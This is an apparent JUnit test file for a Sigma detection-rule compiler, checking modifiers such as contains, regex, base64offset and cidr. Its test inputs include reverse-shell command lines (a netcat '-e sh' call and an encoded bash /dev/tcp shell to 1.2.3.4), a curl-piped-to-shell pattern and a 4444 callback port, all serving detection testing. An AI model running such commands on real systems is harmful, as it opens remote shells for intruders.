package io.spawnwatch.rules.sigma;

import static io.spawnwatch.rules.Rules.execSelection;
import static io.spawnwatch.rules.sigma.TestHelpers.connectSelection;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import io.spawnwatch.rules.TestEvent;
import io.spawnwatch.rules.match.ContainsAnyOf;
import io.spawnwatch.rules.match.ExactSet;
import io.spawnwatch.rules.match.FieldMatchers;
import io.spawnwatch.rules.match.GlobPredicate;
import io.spawnwatch.rules.match.LiteralPredicates;
import io.spawnwatch.rules.match.Matcher;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Each Sigma modifier, and what it compiles to. */
class SigmaModifiersTest {
    private static TestEvent cmd(String commandLine) {
        return TestEvent.exec().set(Field.COMMAND_LINE, commandLine);
    }

    private static Matcher sel(String body) {
        return execSelection(body).detection();
    }

    private static String compiled(String body) {
        return ((FieldMatchers.Text) sel(body)).predicate().toString();
    }

    @Test
    void shouldCompileContainsStartswithEndswithToLiteralTestsNotRegexes() {
        assertEquals("contains('curl ')", compiled("        CommandLine|contains: 'CURL '\n"));
        assertEquals("startswith('/tmp/')", compiled("        CommandLine|startswith: /tmp/\n"));
        assertEquals("endswith('/bash')", compiled("        CommandLine|endswith: /bash\n"));
        assertEquals("endswith('/bash')", compiled("        CommandLine: '*/bash'\n"));
        assertEquals("glob('/var/www/*.ch')", compiled("        CommandLine: /var/www/*.ch\n"));
    }

    @Test
    void shouldCompileLongListsToAHashSetAndAnAutomaton() {
        String names = "        ProcessName:\n" + "            - a\n            - b\n            - c\n            - d\n";
        assertTrue(((FieldMatchers.Text) sel(names)).predicate() instanceof ExactSet);
        String needles = "        CommandLine|contains:\n" + "            - a\n            - b\n            - c\n            - d\n";
        assertTrue(((FieldMatchers.Text) sel(needles)).predicate() instanceof ContainsAnyOf);
    }

    @Test
    void shouldMatchContainsStartswithEndswith() {
        assertTrue(sel("        CommandLine|contains: ' /tmp/'\n").matches(cmd("curl -o /tmp/x")));
        assertFalse(sel("        CommandLine|startswith: 'curl'\n").matches(cmd("/usr/bin/curl")));
        assertTrue(sel("        CommandLine|endswith: '| sh'\n").matches(cmd("curl x | SH")));
    }

    @Test
    void shouldAndTheValuesWithAll() {
        Matcher m = sel("        CommandLine|contains|all:\n            - /bin/java\n            - tomcat\n");
        assertTrue(m.matches(cmd("/usr/bin/java -Dcatalina.home=/opt/tomcat")));
        assertFalse(m.matches(cmd("/usr/bin/java -jar app.jar")));
    }

    @Test
    void shouldMatchCaseSensitivelyWithCased() {
        Matcher m = sel("        CommandLine|contains|cased: 'AWS_'\n");
        assertTrue(m.matches(cmd("env AWS_SECRET")));
        assertFalse(m.matches(cmd("env aws_secret")));
    }

    @Test
    void shouldSearchRegexesCaseSensitivelyUnlessFlagged() {
        assertTrue(sel("        CommandLine|re: 'nc .* -e'\n").matches(cmd("x; nc 1.2.3.4 -e sh")));
        assertFalse(sel("        CommandLine|re: 'nc .* -e'\n").matches(cmd("NC 1.2.3.4 -e sh")));
        assertTrue(sel("        CommandLine|re|i: 'nc .* -e'\n").matches(cmd("NC 1.2.3.4 -e sh")));
        assertTrue(sel("        CommandLine|re|m: '^b$'\n").matches(cmd("a\nb\nc")));
        assertFalse(sel("        CommandLine|re: '^b$'\n").matches(cmd("a\nb\nc")));
        assertTrue(sel("        CommandLine|re|s: 'a.b'\n").matches(cmd("a\nb")));
        assertFalse(sel("        CommandLine|re: 'a.b'\n").matches(cmd("a\nb")));
    }

    @Test
    void shouldTestPresenceWithExists() {
        assertTrue(sel("        ContainerId|exists: false\n").matches(cmd("x")));
        assertFalse(sel("        ContainerId|exists: true\n").matches(cmd("x")));
        assertTrue(sel("        ContainerId|exists: true\n").matches(cmd("x").set(Field.CONTAINER_ID, "abc")));
    }

    @Test
    void shouldExpandWindashToEveryDashVariant() {
        Matcher m = sel("        CommandLine|windash|contains: ' -c '\n");
        for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
            assertTrue(m.matches(cmd("sh " + dash + "c id")), dash);
        }
        assertFalse(m.matches(cmd("sh +c id")));
    }

    @Test
    void shouldMatchBase64EncodedValuesCaseSensitively() {
        String enc = Base64.getEncoder().encodeToString("/bin/bash".getBytes(StandardCharsets.UTF_8));
        Matcher m = sel("        CommandLine|base64|contains: /bin/bash\n");
        assertTrue(m.matches(cmd("echo " + enc + " | base64 -d")));
        assertFalse(m.matches(cmd("echo " + enc.toLowerCase() + " | base64 -d")));
    }

    @Test
    void shouldProduceThePySigmaOffsetsForBase64offset() {
        assertEquals(List.of("cGluZ", "Bpbm", "waW5n"), ValueEncodings.base64Offsets("ping"));
        Matcher m = sel("        CommandLine|base64offset|contains: 'bash -i'\n");
        for (String prefix : List.of("", "x", "xy", "xyz")) {
            String enc = Base64.getEncoder().encodeToString((prefix + "bash -i >& /dev/tcp/1.2.3.4/1 0>&1")
                    .getBytes(StandardCharsets.UTF_8));
            assertTrue(m.matches(cmd("echo " + enc + "|base64 -d|sh")), prefix);
        }
    }

    @Test
    void shouldComparePresentValuesWithNeq() {
        Matcher text = sel("        User|neq: root\n");
        assertTrue(text.matches(cmd("x").set(Field.USER, "www-data")));
        assertFalse(text.matches(cmd("x").set(Field.USER, "ROOT")));
        assertFalse(text.matches(cmd("x")));
        Matcher number = sel("        UserId|neq:\n            - 0\n            - 33\n");
        assertTrue(number.matches(cmd("x").set(Field.USER_ID, 48)));
        assertFalse(number.matches(cmd("x").set(Field.USER_ID, 33)));
    }

    @Test
    void shouldCompareNumbersWithLtLteGtGte() {
        TestEvent depth2 = cmd("x").set(Field.LINEAGE_DEPTH, 2);
        assertTrue(sel("        LineageDepth|gt: 1\n").matches(depth2));
        assertFalse(sel("        LineageDepth|gt: 2\n").matches(depth2));
        assertTrue(sel("        LineageDepth|gte: 2\n").matches(depth2));
        assertTrue(sel("        LineageDepth|lt: 3\n").matches(depth2));
        assertFalse(sel("        LineageDepth|lt: 2\n").matches(depth2));
        assertTrue(sel("        LineageDepth|lte: 2\n").matches(depth2));
        assertFalse(sel("        LineageDepth|gte: 0\n").matches(cmd("x")));
    }

    @Test
    void shouldMatchCidrForIpv4Ipv6AndMappedAddresses() {
        Matcher m = connectSelection("        DestinationIp|cidr:\n            - 10.0.0.0/8\n            - fe80::/10\n");
        assertTrue(m.matches(TestEvent.connect().set(Field.DESTINATION_IP, "10.200.3.4")));
        assertTrue(m.matches(TestEvent.connect().set(Field.DESTINATION_IP, "::ffff:10.1.1.1")));
        assertTrue(m.matches(TestEvent.connect().set(Field.DESTINATION_IP, "fe80::1")));
        assertFalse(m.matches(TestEvent.connect().set(Field.DESTINATION_IP, "11.0.0.1")));
        assertFalse(m.matches(TestEvent.connect().set(Field.DESTINATION_IP, "fec0::1")));
        Matcher odd = connectSelection("        DestinationIp|cidr: 172.16.0.0/12\n");
        assertTrue(odd.matches(TestEvent.connect().set(Field.DESTINATION_IP, "172.31.255.255")));
        assertFalse(odd.matches(TestEvent.connect().set(Field.DESTINATION_IP, "172.32.0.0")));
    }

    @Test
    void shouldExpandPlaceholdersFromConfiguration() {
        Matcher ranges = connectSelection("        DestinationIp|cidr|expand: '%internal_ranges%'\n");
        assertTrue(ranges.matches(TestEvent.connect().set(Field.DESTINATION_IP, "192.168.1.1")));
        assertFalse(ranges.matches(TestEvent.connect().set(Field.DESTINATION_IP, "8.8.8.8")));
        Matcher ports = connectSelection("        DestinationPort|expand: '%callback_ports%'\n");
        assertTrue(ports.matches(TestEvent.connect().set(Field.DESTINATION_PORT, 4444)));
        assertFalse(ports.matches(TestEvent.connect().set(Field.DESTINATION_PORT, 443)));
    }

    @Test
    void shouldTreatAPercentValueWithoutExpandAsLiteral() {
        assertTrue(sel("        CommandLine: '%x%'\n").matches(cmd("%X%")));
    }

    @Test
    void shouldUseGlobOnlyForInnerWildcards() {
        assertTrue(((FieldMatchers.Text) sel("        CommandLine|contains: 'stty*raw*-echo'\n")).predicate()
                instanceof GlobPredicate);
        assertTrue(((FieldMatchers.Text) sel("        CommandLine: abc\n")).predicate()
                instanceof LiteralPredicates.EqualsText);
    }
}
